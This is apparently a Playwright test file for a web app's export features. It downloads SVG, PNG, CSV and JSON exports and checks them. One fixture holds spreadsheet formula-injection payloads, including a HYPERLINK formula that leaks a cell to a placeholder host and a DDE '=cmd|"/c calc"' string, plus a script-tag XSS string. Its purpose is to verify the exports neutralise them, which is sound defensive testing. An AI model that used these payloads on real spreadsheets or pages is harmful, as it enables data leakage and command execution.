/**
 * Exports in Chromium, each downloaded and read back: SVG figures (title, legend, time window; no script or event
 * handler, inert when opened from disk), PNG at 2x, CSV that parses back to the view's rows and never starts a
 * formula, and the dataset as JSON.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  baseUrl,
  mostConnectedActor,
  openApp,
  openPage,
  screenshot,
  seriousA11yViolations,
  useBrowser,
  waitForApp,
} from './harness';

const dir = mkdtempSync(join(tmpdir(), 'threadline-exports-'));

/** Opens the Export menu, clicks an item, and returns the saved file's path and name. */
async function exportFile(page: Page, label: string): Promise<{ path: string; name: string }> {
  const menu = page.getByRole('button', { name: 'Export', exact: true });
  if ((await menu.getAttribute('aria-expanded')) !== 'true') await menu.click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('group', { name: 'Export' }).getByRole('button', { name: label, exact: true }).click(),
  ]);
  const name = download.suggestedFilename();
  const path = join(dir, name);
  await download.saveAs(path);
  return { path, name };
}

function parseCsv(path: string): { bom: boolean; rows: Record<string, string>[] } {
  const text = readFileSync(path, 'utf8');
  const bom = text.startsWith('\uFEFF');
  const parsed = Papa.parse<Record<string, string>>(bom ? text.slice(1) : text, {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return { bom, rows: parsed.data };
}

/** Width and height from a PNG's IHDR chunk. */
function pngSize(path: string): { width: number; height: number } {
  const bytes = readFileSync(path);
  expect(bytes.subarray(1, 4).toString('latin1')).toBe('PNG');
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}

function svgSize(text: string): { width: number; height: number } {
  const w = /<svg[^>]*\swidth="([\d.]+)"/.exec(text);
  const h = /<svg[^>]*\sheight="([\d.]+)"/.exec(text);
  return { width: Number(w?.[1]), height: Number(h?.[1]) };
}

/** A dataset whose strings are formulas and markup. */
function hostileDataset() {
  const names = [
    '=HYPERLINK("http://x?"&A1,"click")',
    '+cmd',
    '-1+1',
    '@SUM(A1)',
    ' =1',
    '\u00a0=1',
    '<script>window.__xss=1</script>',
  ];
  const text = `${names.join(' met ')} on 3 March 2022.`;
  const sentence = { start: 0, end: text.length };
  const actors = names.map((name, i) => ({ id: `a-${i}`, name, kind: 'person', aliases: [] as string[] }));
  return {
    schemaVersion: 1,
    name: '=cmd|"/c calc"!A1',
    documents: [{ id: 'doc-1', file: 'hostile.txt', title: '@Title', published: '2022-03-04', text }],
    actors,
    mentions: names.map((name, i) => ({
      actorId: `a-${i}`,
      docId: 'doc-1',
      start: text.indexOf(name),
      end: text.indexOf(name) + name.length,
    })),
    timexes: [],
    events: [
      {
        id: 'e-1',
        docId: 'doc-1',
        title: '=1+2',
        date: { start: '2022-03-03', precision: 'day', text: '3 March 2022', source: 'text' },
        actorIds: actors.map((a) => a.id),
        evidence: sentence,
      },
    ],
    relations: names.slice(1).map((_, i) => ({
      id: `r-${i}`,
      source: 'a-0',
      target: `a-${i + 1}`,
      type: 'consult',
      polarity: 'neutral',
      negated: false,
      docId: 'doc-1',
      eventId: 'e-1',
      evidence: sentence,
    })),
  };
}

const TRIGGER = /^\s*[=+\-@\t\r]/;

describe('exports', () => {
  const browser = useBrowser();

  it('downloads the figures as SVG and PNG, the tables as CSV and the dataset as JSON', async () => {
    const { page, context, errors, externalRequests, ds } = await openApp(browser());
    context.setDefaultTimeout(15_000);
    const actor = mostConnectedActor(ds);
    await page.locator(`[data-testid="graph"] [data-actor-id="${actor.id}"]`).click();
    await expect
      .poll(() => page.getByRole('toolbar', { name: 'Timeline tools' }).textContent())
      .toContain(`Filtered by ${actor.name}`);

    const menu = page.getByRole('button', { name: 'Export', exact: true });
    await menu.click();
    expect(await seriousA11yViolations(page)).toEqual([]);

    // A link to the current view, which another browser opens on the same view.
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.getByRole('button', { name: 'Copy link to this view' }).click();
    await expect
      .poll(() => page.getByRole('group', { name: 'Export' }).getByRole('status').textContent())
      .toBe('Link to this view copied.');
    const link = await page.evaluate(() => navigator.clipboard.readText());
    expect(link).toContain(`actor=${encodeURIComponent(actor.id)}`);
    const other = await openPage(browser(), link);
    await waitForApp(other.page);
    await expect
      .poll(() => other.page.getByRole('toolbar', { name: 'Timeline tools' }).textContent())
      .toContain(`Filtered by ${actor.name}`);
    await other.context.close();
    await screenshot(page, 'exports-menu');

    // SVG: title, legend, time window and the selection in words; nothing that could run.
    for (const which of ['Timeline', 'Network']) {
      const { path, name } = await exportFile(page, `${which} as SVG`);
      expect(name).toMatch(new RegExp(`-${which.toLowerCase()}\\.svg$`));
      const svg = readFileSync(path, 'utf8');
      expect(svg).toContain('<svg');
      expect(svg).toContain(ds.name);
      expect(svg).toContain('figure-legend');
      expect(svg).toMatch(/Time window:|All dates:/);
      expect(svg).toContain(actor.name);
      expect(svg).not.toMatch(/<script|<foreignObject|\son[a-z]+\s*=|javascript:/i);
      // Opened from disk it is an inert picture.
      const viewer = await context.newPage();
      await viewer.goto(`file://${path}`);
      const opened = await viewer.evaluate(() => ({
        root: document.documentElement.nodeName,
        scripts: document.getElementsByTagName('script').length,
        texts: document.getElementsByTagName('text').length,
      }));
      expect(opened.root).toBe('svg');
      expect(opened.scripts).toBe(0);
      expect(opened.texts).toBeGreaterThan(3);
      await viewer.close();

      // PNG at twice the figure's size.
      const png = await exportFile(page, `${which} as PNG (2x)`);
      expect(png.name).toMatch(/\.png$/);
      const size = svgSize(svg);
      expect(pngSize(png.path)).toEqual({ width: Math.round(size.width * 2), height: Math.round(size.height * 2) });
    }

    // CSV: UTF-8 with BOM; the rows are the view's (the selected actor's events).
    const events = parseCsv((await exportFile(page, 'Events as CSV')).path);
    expect(events.bom).toBe(true);
    const expectedEvents = ds.events.filter((e) => e.actorIds.includes(actor.id)).map((e) => e.id);
    expect(events.rows.map((r) => r.id).sort()).toEqual([...expectedEvents].sort());
    const byId = new Map(ds.events.map((e) => [e.id, e]));
    for (const row of events.rows) {
      const e = byId.get(row.id ?? '');
      const doc = ds.documents.find((d) => d.id === e?.docId);
      expect(row.title?.replace(/^'/, '')).toBe(e?.title);
      expect(Number(row.start)).toBe(e?.evidence.start);
      expect(row.evidence?.replace(/^'/, '')).toBe(doc?.text.slice(e?.evidence.start, e?.evidence.end));
    }
    const actors = parseCsv((await exportFile(page, 'Actors as CSV')).path);
    expect(actors.rows.map((r) => r.id).sort()).toEqual(ds.actors.map((a) => a.id).sort());
    const relations = parseCsv((await exportFile(page, 'Relations as CSV')).path);
    expect(relations.rows.map((r) => r.id).sort()).toEqual(ds.relations.map((r) => r.id).sort());

    // JSON: the dataset itself.
    const json = JSON.parse(readFileSync((await exportFile(page, 'Dataset as JSON')).path, 'utf8')) as unknown;
    expect(json).toEqual(ds);

    expect(externalRequests).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('never writes a CSV cell a spreadsheet would run, and keeps hostile names inert in SVG', async () => {
    const body = JSON.stringify(hostileDataset());
    const { page, context, errors } = await openPage(browser(), 'about:blank');
    context.setDefaultTimeout(15_000);
    await page.route(
      (url) => url.pathname.endsWith('/formulas.json'),
      (route) => route.fulfill({ status: 200, contentType: 'application/json', body }),
    );
    await page.goto(new URL('?dataset=./formulas.json', baseUrl()).href);
    await waitForApp(page);

    for (const label of ['Events as CSV', 'Actors as CSV', 'Relations as CSV']) {
      const { path, name } = await exportFile(page, label);
      expect(name).not.toMatch(/[=|"/\\]/);
      const { rows } = parseCsv(path);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        for (const cell of Object.values(row)) {
          // Numbers are numbers; any other cell that starts like a formula carries the apostrophe.
          if (/^-?\d+(?:\.\d+)?$/.test(cell)) continue;
          for (const line of cell.split(/\r?\n/)) expect(line).not.toMatch(TRIGGER);
        }
      }
    }
    const actors = parseCsv((await exportFile(page, 'Actors as CSV')).path).rows;
    expect(actors.map((r) => r.name)).toContain(`'=HYPERLINK("http://x?"&A1,"click")`);
    expect(actors.map((r) => r.name)).toContain(`' =1`);

    const { path } = await exportFile(page, 'Network as SVG');
    const viewer = await context.newPage();
    await viewer.goto(`file://${path}`);
    const state = await viewer.evaluate(() => ({
      xss: (window as unknown as { __xss?: unknown }).__xss,
      scripts: document.getElementsByTagName('script').length,
      text: document.documentElement.textContent ?? '',
    }));
    expect(state.xss).toBeUndefined();
    expect(state.scripts).toBe(0);
    expect(state.text).toContain('<script>window.__xss=1</script>');
    expect(errors).toEqual([]);
    await context.close();
  });
});
